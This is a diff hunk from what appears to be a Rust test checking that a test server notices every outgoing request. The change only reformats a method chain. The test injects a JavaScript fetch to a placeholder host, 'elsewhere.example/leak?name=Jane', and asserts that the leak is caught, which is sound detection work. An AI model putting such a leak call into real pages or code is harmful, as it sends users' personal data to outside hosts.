@@ -90,7 +90,11 @@ async fn every_request_is_seen_and_the_pages_make_no_strange_one() -> Result<()>
         .await?
         .evaluate("fetch('http://elsewhere.example/leak?name=Jane').catch(() => null).then(() => null)")
         .await?;
-    let strange: Vec<String> = server.strangers().into_iter().map(|request| request.host + request.path.as_str()).collect();
+    let strange: Vec<String> = server
+        .strangers()
+        .into_iter()
+        .map(|request| request.host + request.path.as_str())
+        .collect();
     assert_eq!(strange, ["elsewhere.example/leak?name=Jane"]);
     drop(gmail);
     Ok(())
